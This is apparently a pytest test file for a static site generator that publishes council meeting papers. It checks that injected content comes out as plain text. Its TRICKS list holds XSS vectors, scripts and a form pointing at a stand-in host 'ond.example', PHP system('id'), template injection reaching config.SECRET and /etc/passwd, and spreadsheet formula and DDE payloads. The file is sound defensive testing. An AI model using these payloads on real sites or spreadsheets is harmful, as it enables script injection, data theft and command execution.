"""What papers may try to say to a browser, a template or a spreadsheet: the finished site holds it as words alone."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import lxml.html  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.datafiles import forms
from generator.hooks import POLICY
from tests.hostile import meeting, write, write_body
from tests.sample_site import build

# Each hides the word `mærke` + a number, which must come out as a word or not at all.
TRICKS = (
    "<script>mærke()</script>",
    "<ScRiPt src=//ond.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt&#58;alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "[klik](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "<!-- skjult -->",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php system('id') ?>",
    "<meta http-equiv=refresh content='0;url=https://ond.example'>",
    "<base href=//ond.example/>",
    "<form action=//ond.example><input name=cpr></form>",
    "<style>@import '//ond.example/x.css'</style>",
    "{{ 7*7 }} {{ config.SECRET }} {% include '/etc/passwd' %} {# x #}",
    "x{: onclick=alert(1) .farlig #tyv }",
    "[[toc]] [TOC] [[_TOC_]]",
    '--8<-- "/etc/passwd"',
    "::: generator.cli",
    "!!! danger",
    "[^1]: fodnote [^1]",
    "[ref]: javascript:alert(1)",
    "*[HTML]: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &colon; &NewLine;",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>` ``x`` ~~~ <b onclick=alert(1)>",
    "~~~html\n<script>alert(1)</script>\n~~~",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "\u202egnp.exe\u202c \u2066skjult\u2069 be\u200bhov \ufeffx\u061c",
    "=HYPERLINK(\"https://ond.example\";\"klik\")",
    "+SUM(1;1)",
    "@SUM(1)",
    "-1+cmd|' /C calc'!A0",
)  # fmt: skip

_ADDRESSES = ("href", "src", "action", "formaction", "srcset", "xlink:href", "poster", "data", "cite", "background")
_BIDI = re.compile("[\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069]")
_ZERO_WIDTH = re.compile("[\u200b-\u200d\u2060\ufeff]")


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site in which every place that a paper or a clerk can fill holds every trick."""
    work = tmp_path_factory.mktemp("tricks")
    body = work / "content" / "byraadet"
    every = "\n\n".join(TRICKS)
    write_body(body)
    front = f"---\nname: {_quoted(TRICKS[2])}\norganisation: {_quoted(TRICKS[3])}\n---\n"
    write(body / "body.md", f"{front}{every}\n")
    folder = meeting(body / "2025-03-04")
    write(folder / "meeting.md", f"---\nopenness: åben\nplace: {_quoted(TRICKS[0])}\n---\n{every}\n")
    for number, trick in enumerate(TRICKS, 2):
        said = _quoted(f"mærke{number} {trick}")
        write(
            folder / f"item-{number}.md",
            f"---\ntitle: {_quoted(trick + f' mærke{number}')}\ncase: [{said}]\nresponsible: {said}\n"
            f"recommendations: [{said}]\nattachments: [{{title: {said}}}]\ndecision: {said}\n---\n"
            f"{trick}\n\n## {trick}\n",
        )
    bundle = meeting(body / "2025-03-11") / "bundle.txt"
    flat = [trick.replace("\n", " ") for trick in TRICKS]
    write(bundle, "".join(f" Punkt {n}: {trick} mærke{n}\n\n{trick}\n\n" for n, trick in enumerate(flat, 2)))
    topics = [{"slug": "skole", "name": TRICKS[2], "words": ["mærke2"]}]
    write(work / "content" / "topics.yml", json.dumps(topics, ensure_ascii=False))
    abbreviations = [{"short": "MSB", "long": TRICKS[0]}]
    write(work / "content" / "glossary.yml", json.dumps({"abbreviations": abbreviations}, ensure_ascii=False))
    said = build(work, work / "content")
    assert (work / "site" / "index.html").is_file(), said
    return work / "site"


def _pages(site: Path) -> list[tuple[str, lxml.html.HtmlElement]]:
    files = sorted(site.rglob("*.html"))
    return [(file.relative_to(site).as_posix(), lxml.html.fromstring(file.read_bytes())) for file in files]


@pytest.mark.site
def test_every_trick_is_published_as_words(hostile_site: Path) -> None:
    """The tricks are really there: each item that holds one has its page, with its own word in the title."""
    for number in range(2, len(TRICKS) + 2):
        for day in ("2025-03-04", "2025-03-11"):
            page = hostile_site / "byraadet" / day / f"punkt-{number}" / "index.html"
            assert f"mærke{number}" in lxml.html.parse(str(page)).findtext(".//title", "")


@pytest.mark.site
def test_nothing_runs(hostile_site: Path) -> None:
    """No script but the site's own files, no handler, no script address, no frame, form or policy of a paper's."""
    for name, page in _pages(hostile_site):
        for element in page.iter():
            if not isinstance(element.tag, str):
                continue
            assert not [key for key in element.attrib if key.lower().startswith("on")], name
            assert "style" not in element.attrib, name
            assert element.tag not in ("iframe", "object", "embed", "base", "style"), name
            for key in _ADDRESSES:
                told = re.sub(r"[\s\x00-\x20]", "", element.get(key, "")).lower()
                assert not told.startswith(("javascript:", "vbscript:", "//")), (name, told)
                assert not told.startswith("data:") or element.tag == "link", (name, told)
        for script in page.iter("script"):
            if script.get("type") == "application/ld+json":
                json.loads(script.text)  # data, which no browser runs, and whole: nothing in it ends the element
            else:
                assert not (script.text or "").strip(), name
            assert "//" not in script.get("src", ""), name
        for form in page.iter("form"):
            assert "ond.example" not in form.get("action", ""), name
        for meta in page.iter("meta"):
            assert meta.get("http-equiv", "").lower() != "refresh", name


@pytest.mark.site
def test_the_policy_stands_first_and_whole(hostile_site: Path) -> None:
    """Each page has the site's policy, once, and before anything that it governs."""
    for name, page in _pages(hostile_site):
        policies = page.xpath("//meta[translate(@http-equiv, 'CSP', 'csp')='content-security-policy']")
        assert [entry.get("content") for entry in policies] == [POLICY], name
        head = list(page.find("head"))
        governed = [at for at, element in enumerate(head) if element.tag in ("script", "link")]
        assert head.index(policies[0]) < min(governed), name


@pytest.mark.site
def test_templates_and_includes_stay_words(hostile_site: Path) -> None:
    """Template syntax is shown as it was written, and no file of the machine is included."""
    number = TRICKS.index("{{ 7*7 }} {{ config.SECRET }} {% include '/etc/passwd' %} {# x #}") + 2
    page = lxml.html.parse(str(hostile_site / f"byraadet/2025-03-04/punkt-{number}/index.html"))
    assert "{{ 7*7 }} {{ config.SECRET }} {% include '/etc/passwd' %} {# x #}" in page.findtext(".//title", "")
    for file in hostile_site.rglob("*"):
        if file.is_file():
            assert b"root:x:0" not in file.read_bytes(), file.name


@pytest.mark.site
def test_no_character_turns_the_reading_round(hostile_site: Path) -> None:
    """Bidirectional controls and letters without width are left out of pages and data: words read as they are."""
    for file in sorted((*hostile_site.rglob("*.html"), *hostile_site.rglob("*.json"), *hostile_site.rglob("*.csv"))):
        text = file.read_text("utf-8")
        unescaped = json.dumps(json.loads(text), ensure_ascii=False) if file.suffix == ".json" else text
        assert not _BIDI.search(unescaped), file
        assert not _ZERO_WIDTH.search(unescaped), file


@pytest.mark.site
def test_no_cell_begins_a_formula(hostile_site: Path) -> None:
    """Neither at commas nor at semicolons, as a Danish spreadsheet parts cells, does a text begin a formula."""
    for file in sorted((hostile_site / "data").glob("*.csv")):
        text = file.read_text("utf-8")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        cells += [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        for cell in cells:
            if not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                assert not cell.lstrip(" ").startswith(("=", "+", "@", "-", "\t")), (file.name, cell[:80])


@given(st.text("'=+-@;\n a\t", max_size=20))
def test_cells_can_be_read_back(text: str) -> None:
    """The rule that datapackage.json gives for reading cells brings back every text (promise 5)."""
    cell = forms.cell(text)
    assert re.sub(r"((?:^|[\n\r;]) *)'('*)(?=[=+\-@\t\r＝＋－＠])", r"\1\2", cell) == text
    assert not re.search(r"(?:^|[\n\r;]) *[=+\-@\t]", cell)
